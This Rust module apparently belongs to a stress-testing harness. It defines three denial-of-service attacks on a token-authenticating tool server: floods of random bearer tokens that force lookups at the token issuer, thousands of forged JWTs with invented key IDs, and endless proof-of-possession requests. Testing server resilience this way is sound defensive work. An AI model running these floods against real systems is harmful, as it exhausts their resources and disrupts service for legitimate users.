//! Access tokens that cost the server time before it knows who sent them.

use anyhow::Result;
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;

use super::{Attack, crowd};
use crate::issuer::GREEDY;
use crate::messages;
use crate::peer::Peer;
use crate::proof::ClientKey;
use crate::target::Target;

pub(super) const ATTACKS: &[Attack] = &[
    Attack::new(
        "random-tokens",
        "300 clients of one address with random tokens, about which the server asks the issuer",
        |target| Box::pin(random(target)),
    )
    .lasting(1_500, 5_000)
    .with_tokens(),
    Attack::new(
        "invented-keys",
        "4,000 requests with tokens of keys that do not exist, while the issuer's keys are loaded",
        |target| Box::pin(invented(target)),
    )
    .lasting(1_500, 5_000)
    .with_tokens(),
    Attack::new(
        "many-proofs",
        "proofs of possession of one user with four keys, as many as the server verifies",
        |target| Box::pin(proofs(target)),
    )
    .lasting(2_000, 5_000)
    .with_tokens(),
];

async fn random(target: Target) -> Result<()> {
    crowd(target, 300, |target, number| async move {
        let mut peer = Peer::open(&target, number).await?;
        for round in 0_u32.. {
            let token = format!("random-{number}-{round}");
            peer.exchange(&request(&target, &token)).await?;
        }
        Ok(())
    })
    .await
}

async fn invented(target: Target) -> Result<()> {
    crowd(target, 4_000, |target, number| async move {
        let mut peer = Peer::open(&target, number).await?;
        for round in 0_u32.. {
            let header = format!(r#"{{"alg":"ES256","typ":"at+jwt","kid":"{number}-{round}"}}"#);
            let claims = format!(r#"{{"iss":"{}"}}"#, target.issuer());
            let encode = |text: &str| URL_SAFE_NO_PAD.encode(text);
            // The signature is never looked at, because there is no key for it.
            let token = format!("{}.{}.AAAA", encode(&header), encode(&claims));
            peer.exchange(&request(&target, &token)).await?;
        }
        Ok(())
    })
    .await
}

async fn proofs(target: Target) -> Result<()> {
    crowd(target, 4, |target, number| async move {
        let key = ClientKey::generate()?;
        let mut peer = Peer::open(&target, number).await?;
        loop {
            let headers = key.headers(GREEDY, 0)?;
            peer.exchange(&call(&target, &headers)).await?;
        }
    })
    .await
}

/// Returns a call with a token that is not bound to a key.
fn request(target: &Target, token: &str) -> Vec<u8> {
    call(target, &format!("Authorization: Bearer {token}\r\n"))
}

/// Returns a call with these headers.
fn call(target: &Target, credentials: &str) -> Vec<u8> {
    let tool = &target.tool().name;
    let headers = messages::modern_headers("tools/call", Some(tool));
    let headers = format!("{headers}{credentials}");
    let members = messages::call(tool, "{}");
    target.post(&headers, &messages::modern("1", "tools/call", &members))
}
